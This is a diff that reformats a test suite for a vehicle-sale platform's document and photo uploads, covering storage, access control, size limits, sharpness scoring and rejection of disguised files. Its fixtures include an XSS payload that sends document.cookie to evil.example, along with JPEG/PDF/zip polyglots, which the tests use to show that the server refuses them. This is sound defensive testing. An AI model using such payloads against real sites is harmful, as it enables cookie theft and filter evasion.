@@ -1,7 +1,14 @@
 import { FormData } from 'miniflare';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { User } from '../contract/accounts';
-import { MAX_UPLOAD_BYTES, type DocumentsState, type PhotosState, type SharpnessResult, type UploadedDocument, type VehiclePhoto } from '../contract/documents';
+import {
+  MAX_UPLOAD_BYTES,
+  type DocumentsState,
+  type PhotosState,
+  type SharpnessResult,
+  type UploadedDocument,
+  type VehiclePhoto,
+} from '../contract/documents';
 import { readMultipart } from '../platform/src/sale/documents';
 import { newSeller, sessionData, signUp, uniqueEmail, valueCar } from './support/sellers';
 import { fixture, pdf as pdfFile } from './support/files';
@@ -19,8 +26,9 @@ const bytes = (...parts: (ArrayLike<number> | string)[]) =>
   new Uint8Array(parts.flatMap((part) => (typeof part === 'string' ? [...part].map((c) => c.charCodeAt(0)) : Array.from(part))));
 const be16 = (n: number) => [n >> 8, n & 0xff];
 
-const PNG_1X1 = Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='), (c) =>
-  c.charCodeAt(0),
+const PNG_1X1 = Uint8Array.from(
+  atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='),
+  (c) => c.charCodeAt(0),
 );
 const PDF = pdfFile('Settlement letter');
 
@@ -30,7 +38,9 @@ function jpeg(width: number, height: number, scanBytes: number): Uint8Array {
   const scan = Array.from({ length: scanBytes }, (_, i) => (i * 37 + 11) % 0xff);
   return bytes(
     [0xff, 0xd8],
-    [0xff, 0xe0, ...be16(16)], 'JFIF\0', [1, 1, 0, 0, 1, 0, 1, 0, 0],
+    [0xff, 0xe0, ...be16(16)],
+    'JFIF\0',
+    [1, 1, 0, 0, 1, 0, 1, 0, 0],
     [0xff, 0xc0, ...be16(17), 8, ...be16(height), ...be16(width), 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1],
     [0xff, 0xda, ...be16(12), 3, 1, 0, 2, 0x11, 3, 0x11, 0, 0x3f, 0],
     scan,
@@ -105,7 +115,13 @@ describe('uploading a document', () => {
   it('stores it in R2, lists it in the state, and gives the same bytes back to its owner', async () => {
     const seller = await signedUpSeller();
     const document = await uploaded(seller, 'v5c', png('My logbook.png'));
-    expect(document).toMatchObject({ kind: 'v5c', contentType: 'image/png', size: PNG_1X1.length, originalName: 'My logbook.png', submittedAt: null });
+    expect(document).toMatchObject({
+      kind: 'v5c',
+      contentType: 'image/png',
+      size: PNG_1X1.length,
+      originalName: 'My logbook.png',
+      submittedAt: null,
+    });
     expect(document.id).toMatch(/^[0-9a-f-]{36}$/);
 
     const object = await (await bucket()).get(`documents/${seller.enquiryId}/v5c/${document.id}`);
@@ -135,7 +151,10 @@ describe('uploading a document', () => {
     const seller = await signedUpSeller();
     const renamed = await upload(seller, 'finance-settlement-letter', { bytes: PNG_1X1, name: 'settlement.pdf', type: 'application/pdf' });
     expect(renamed.status).toBe(400);
-    expect(await renamed.json()).toEqual({ code: 'invalid_file', message: 'The finance settlement letter must be the PDF your lender sent' });
+    expect(await renamed.json()).toEqual({
+      code: 'invalid_file',
+      message: 'The finance settlement letter must be the PDF your lender sent',
+    });
 
     const document = await uploaded(seller, 'finance-settlement-letter', { bytes: PDF, name: 'letter.png', type: 'image/png' });
     expect(document).toMatchObject({ contentType: 'application/pdf', sharpness: null, sharp: true });
@@ -147,7 +166,11 @@ describe('uploading a document', () => {
     const seller = await signedUpSeller();
     const empty = await upload(seller, 'v5c', { bytes: new Uint8Array(), name: 'empty.jpg', type: 'image/jpeg' });
     expect(await empty.json()).toEqual({ code: 'invalid_file', message: 'That file is empty' });
-    const html = await upload(seller, 'v5c', { bytes: bytes('<!doctype html><script>alert(1)</script>'), name: 'v5c.jpg', type: 'image/jpeg' });
+    const html = await upload(seller, 'v5c', {
+      bytes: bytes('<!doctype html><script>alert(1)</script>'),
+      name: 'v5c.jpg',
+      type: 'image/jpeg',
+    });
     expect(html.status).toBe(400);
     expect(await html.json()).toEqual({ code: 'invalid_file', message: 'Upload a photo (JPEG, PNG, WebP or HEIC) or a PDF' });
     expect((await upload(seller, 'passport', png())).status).toBe(400);
@@ -173,7 +196,11 @@ describe('uploading a document', () => {
     const theirs = { ...other, enquiryId: owner.enquiryId };
 
     // Each answer is read as it arrives: an unread body can be dropped when the connection is reused.
-    const read = async (response: Response) => ({ status: response.status, url: response.url, body: (await response.json()) as { code: string } });
+    const read = async (response: Response) => ({
+      status: response.status,
+      url: response.url,
+      body: (await response.json()) as { code: string },
+    });
     const answers = [
       await read(await upload(theirs, 'v5c', png())),
       await read(await get(theirs, `/platform/vehicle/documents/state?enquiryId=${owner.enquiryId}`)),
@@ -193,7 +220,7 @@ describe('uploading a document', () => {
 
     const stranger = await workers.platform(`/platform/vehicle/documents/state?enquiryId=${owner.enquiryId}`);
     expect(stranger.status).toBe(401);
-    expect((await (await bucket()).get(`documents/${owner.enquiryId}/v5c/${document.id}`))).not.toBeNull();
+    expect(await (await bucket()).get(`documents/${owner.enquiryId}/v5c/${document.id}`)).not.toBeNull();
   });
 });
 
@@ -227,7 +254,10 @@ describe('reading an upload over the limit', () => {
 
   it('refuses a declared content-length over the limit without reading a byte', async () => {
     const { counter, body } = countingBody();
-    const answer = (await readMultipart(request(body, { 'content-length': String(11 * 1024 * 1024) }), MAX_UPLOAD_BYTES.document)) as Response;
+    const answer = (await readMultipart(
+      request(body, { 'content-length': String(11 * 1024 * 1024) }),
+      MAX_UPLOAD_BYTES.document,
+    )) as Response;
     expect(answer.status).toBe(413);
     expect(await answer.json()).toEqual(TOO_LARGE);
     expect(counter.pulled).toBe(0);
@@ -247,10 +277,14 @@ describe('files that are not what they start as', () => {
   const JPEG = fixture('photo.jpg');
   const LETTER = fixture('letter.pdf');
   const HTML = '<html><body><script>document.location="//evil.example/?"+document.cookie</script></body></html>';
-  const DAMAGED = { code: 'invalid_file', message: 'That file is damaged or incomplete. Save it again, or take a new photo, and upload that.' };
+  const DAMAGED = {
+    code: 'invalid_file',
+    message: 'That file is damaged or incomplete. Save it again, or take a new photo, and upload that.',
+  };
   const HIDDEN = {
     code: 'invalid_file',
-    message: 'That file contains something besides the photo or document, so we cannot accept it. Take a new photo, or save the document again as a PDF, and upload that.',
+    message:
+      'That file contains something besides the photo or document, so we cannot accept it. Take a new photo, or save the document again as a PDF, and upload that.',
   };
 
   it('refuses polyglots (a JPEG that is also a page or a PDF, a PDF with a zip after it) and stores nothing', async () => {
@@ -258,8 +292,16 @@ describe('files that are not what they start as', () => {
     const polyglots = [
       { bytes: bytes(JPEG, HTML), name: 'licence.jpg', type: 'image/jpeg' },
       // A comment segment right after SOI: a PDF reader finds this header in the first kilobyte.
-      { bytes: bytes(JPEG.subarray(0, 2), [0xff, 0xfe, 0, 30], '%PDF-1.4 1 0 obj <<>> endobj', JPEG.subarray(2)), name: 'licence.jpg', type: 'image/jpeg' },
-      { bytes: bytes(LETTER, 'PK\x03\x04', new Uint8Array(40), 'PK\x05\x06', new Uint8Array(18)), name: 'letter.pdf', type: 'application/pdf' },
+      {
+        bytes: bytes(JPEG.subarray(0, 2), [0xff, 0xfe, 0, 30], '%PDF-1.4 1 0 obj <<>> endobj', JPEG.subarray(2)),
+        name: 'licence.jpg',
+        type: 'image/jpeg',
+      },
+      {
+        bytes: bytes(LETTER, 'PK\x03\x04', new Uint8Array(40), 'PK\x05\x06', new Uint8Array(18)),
+        name: 'letter.pdf',
+        type: 'application/pdf',
+      },
       { bytes: bytes(PNG_1X1, HTML), name: 'logbook.png', type: 'image/png' },
     ];
     for (const file of polyglots) {
@@ -283,7 +325,11 @@ describe('files that are not what they start as', () => {
       const response = await upload(seller, 'v5c', file);
       expect(await response.json(), file.name).toEqual(DAMAGED);
     }
-    const sharpness = await postForm(seller, '/platform/vehicle/documents/checkSharpness', formOf({}, { bytes: JPEG.subarray(0, 600), name: 'cut.jpg', type: 'image/jpeg' }));
+    const sharpness = await postForm(
+      seller,
+      '/platform/vehicle/documents/checkSharpness',
+      formOf({}, { bytes: JPEG.subarray(0, 600), name: 'cut.jpg', type: 'image/jpeg' }),
+    );
     expect(sharpness.status).toBe(400);
     expect(await sharpness.json()).toEqual(DAMAGED);
   });
@@ -332,11 +378,16 @@ describe('sending the documents for checking', () => {
       .run();
     await uploaded(seller, 'v5c', png());
     await uploaded(seller, 'driving-licence', png());
-    expect((await state(seller)).kinds.find((k) => k.kind === 'finance-settlement-letter')).toMatchObject({ required: true, complete: false });
+    expect((await state(seller)).kinds.find((k) => k.kind === 'finance-settlement-letter')).toMatchObject({
+      required: true,
+      complete: false,
+    });
     const refused = await postJson(seller, '/platform/vehicle/documents/review/markAsSubmitted', { enquiryId: seller.enquiryId });
     expect(await refused.json()).toMatchObject({ code: 'documents_missing', missing: ['finance-settlement-letter'] });
     await uploaded(seller, 'finance-settlement-letter', pdf());
-    expect((await postJson(seller, '/platform/vehicle/documents/review/markAsSubmitted', { enquiryId: seller.enquiryId })).status).toBe(200);
+    expect((await postJson(seller, '/platform/vehicle/documents/review/markAsSubmitted', { enquiryId: seller.enquiryId })).status).toBe(
+      200,
+    );
   });
 });
 
@@ -355,7 +406,10 @@ describe('deleting a document', () => {
     const again = await postJson(seller, '/platform/vehicle/documents/delete', { enquiryId: seller.enquiryId, documentId: document.id });
     expect(again.status).toBe(404);
     // The row stays as history of what was uploaded.
-    const row = await workers.db.prepare('SELECT deleted_at FROM documents WHERE id = ?1').bind(document.id).first<{ deleted_at: string }>();
+    const row = await workers.db
+      .prepare('SELECT deleted_at FROM documents WHERE id = ?1')
+      .bind(document.id)
+      .first<{ deleted_at: string }>();
     expect(row?.deleted_at).toMatch(/^\d{4}-/);
   });
 });
@@ -368,9 +422,17 @@ describe('guided photos', () => {
     expect(before.missing.slice(0, 4)).toEqual(['front-left', 'front-right', 'rear-left', 'rear-right']);
     expect(before.missing).toHaveLength(12);
 
-    const first = await postForm(seller, '/platform/premium/photos', formOf({ enquiryId: seller.enquiryId, slot: 'front-left' }, png('IMG_0001.png')));
+    const first = await postForm(
+      seller,
+      '/platform/premium/photos',
+      formOf({ enquiryId: seller.enquiryId, slot: 'front-left' }, png('IMG_0001.png')),
+    );
     expect(first.status).toBe(201);
-    expect(((await first.json()) as { photo: VehiclePhoto }).photo).toMatchObject({ slot: 'front-left', contentType: 'image/png', size: PNG_1X1.length });
+    expect(((await first.json()) as { photo: VehiclePhoto }).photo).toMatchObject({
+      slot: 'front-left',
+      contentType: 'image/png',
+      size: PNG_1X1.length,
+    });
     const prefix = `photos/${seller.enquiryId}/front-left/`;
     const [oldObject] = (await (await bucket()).list({ prefix })).objects;
     expect(oldObject).toBeDefined();
@@ -381,7 +443,12 @@ describe('guided photos', () => {
       formOf({ enquiryId: seller.enquiryId, slot: 'front-left' }, { bytes: SHARP_JPEG, name: 'IMG_0002.jpg', type: 'image/jpeg' }),
     );
     expect(second.status).toBe(201);
-    expect(((await second.json()) as { photo: VehiclePhoto }).photo).toMatchObject({ contentType: 'image/jpeg', size: SHARP_JPEG.length, sharpness: 2, sharp: true });
+    expect(((await second.json()) as { photo: VehiclePhoto }).photo).toMatchObject({
+      contentType: 'image/jpeg',
+      size: SHARP_JPEG.length,
+      sharpness: 2,
+      sharp: true,
+    });
     const objects = (await (await bucket()).list({ prefix })).objects;
     expect(objects).toHaveLength(1);
     expect(objects[0]!.key).not.toBe(oldObject!.key);
@@ -403,11 +470,19 @@ describe('guided photos', () => {
 
   it('takes only images, up to 8 MB, into known slots', async () => {
     const seller = await signedUpSeller();
-    const asPdf = await postForm(seller, '/platform/premium/photos', formOf({ enquiryId: seller.enquiryId, slot: 'boot' }, pdf('boot.jpg')));
+    const asPdf = await postForm(
+      seller,
+      '/platform/premium/photos',
+      formOf({ enquiryId: seller.enquiryId, slot: 'boot' }, pdf('boot.jpg')),
+    );
     expect(await asPdf.json()).toEqual({ code: 'invalid_file', message: 'Upload a photo (JPEG, PNG, WebP or HEIC)' });
     const big = new Uint8Array(8 * 1024 * 1024 + 1);
     big.set(PNG_1X1);
-    const tooBig = await postForm(seller, '/platform/premium/photos', formOf({ enquiryId: seller.enquiryId, slot: 'boot' }, { bytes: big, name: 'b.png', type: 'image/png' }));
+    const tooBig = await postForm(
+      seller,
+      '/platform/premium/photos',
+      formOf({ enquiryId: seller.enquiryId, slot: 'boot' }, { bytes: big, name: 'b.png', type: 'image/png' }),
+    );
     expect(tooBig.status).toBe(413);
     expect(await tooBig.json()).toEqual({ code: 'file_too_large', message: 'That file is bigger than 8 MB' });
     const unknownSlot = await postForm(seller, '/platform/premium/photos', formOf({ enquiryId: seller.enquiryId, slot: 'sunroof' }, png()));
@@ -417,7 +492,11 @@ describe('guided photos', () => {
 });
 
 describe('sharpness', () => {
-  const check = async (seller: Seller, file: { bytes: Uint8Array; name: string; type: string }, fields: Record<string, string | number> = {}) => {
+  const check = async (
+    seller: Seller,
+    file: { bytes: Uint8Array; name: string; type: string },
+    fields: Record<string, string | number> = {},
+  ) => {
     const response = await postForm(seller, '/platform/vehicle/documents/checkSharpness', formOf(fields, file));
     expect(response.status).toBe(200);
     return (await response.json()) as SharpnessResult;
@@ -425,7 +504,12 @@ describe('sharpness', () => {
 
   it('tells a sharp JPEG from a blurry one by bits per pixel, and does not judge PDFs', async () => {
     const seller = await signedUpSeller();
-    expect(await check(seller, { bytes: SHARP_JPEG, name: 'a.jpg', type: 'image/jpeg' })).toEqual({ sharp: true, score: 2, width: 200, height: 200 });
+    expect(await check(seller, { bytes: SHARP_JPEG, name: 'a.jpg', type: 'image/jpeg' })).toEqual({
+      sharp: true,
+      score: 2,
+      width: 200,
+      height: 200,
+    });
     expect(await check(seller, { bytes: BLURRY_JPEG, name: 'b.jpg', type: 'image/jpeg' }, { enquiryId: seller.enquiryId })).toEqual({
       sharp: false,
       score: 0.3,
@@ -439,15 +523,24 @@ describe('sharpness', () => {
     const seller = await signedUpSeller();
     const document = await uploaded(seller, 'driving-licence', { bytes: BLURRY_JPEG, name: 'licence.jpg', type: 'image/jpeg' });
     expect(document).toMatchObject({ sharpness: 0.3, sharp: false });
-    expect((await state(seller)).kinds.find((k) => k.kind === 'driving-licence')!.documents[0]).toMatchObject({ sharpness: 0.3, sharp: false });
+    expect((await state(seller)).kinds.find((k) => k.kind === 'driving-licence')!.documents[0]).toMatchObject({
+      sharpness: 0.3,
+      sharp: false,
+    });
   });
 
   it('needs a signed-in seller, and their own enquiry when one is named', async () => {
     const seller = await signedUpSeller();
     const form = formOf({}, { bytes: SHARP_JPEG, name: 'a.jpg', type: 'image/jpeg' });
-    expect((await workers.platform('/platform/vehicle/documents/checkSharpness', { method: 'POST', body: form as unknown as BodyInit })).status).toBe(401);
+    expect(
+      (await workers.platform('/platform/vehicle/documents/checkSharpness', { method: 'POST', body: form as unknown as BodyInit })).status,
+    ).toBe(401);
     const other = await signedUpSeller();
-    const response = await postForm(seller, '/platform/vehicle/documents/checkSharpness', formOf({ enquiryId: other.enquiryId }, { bytes: SHARP_JPEG, name: 'a.jpg', type: 'image/jpeg' }));
+    const response = await postForm(
+      seller,
+      '/platform/vehicle/documents/checkSharpness',
+      formOf({ enquiryId: other.enquiryId }, { bytes: SHARP_JPEG, name: 'a.jpg', type: 'image/jpeg' }),
+    );
     expect(response.status).toBe(404);
   });
 });
